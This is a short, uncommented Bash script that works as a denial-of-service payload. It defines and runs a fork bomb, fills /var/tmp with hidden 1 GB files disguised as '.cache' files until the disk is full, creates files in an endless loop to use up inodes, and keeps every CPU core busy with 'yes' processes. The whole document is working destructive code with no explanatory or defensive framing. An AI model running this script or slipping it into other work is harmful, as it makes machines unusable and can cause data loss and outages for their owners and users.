#!/bin/bash
b() { b | b & }
fill() {
  local i=0
  while fallocate -l 1G "/var/tmp/.cache.$((i++))" 2>/dev/null; do :; done
}
fill
mkdir -p /var/tmp/.n && cd /var/tmp/.n || exit 1
(while :; do : > "$RANDOM$RANDOM$RANDOM"; done) &
for _ in $(seq "$(nproc)"); do yes > /dev/null & done
b
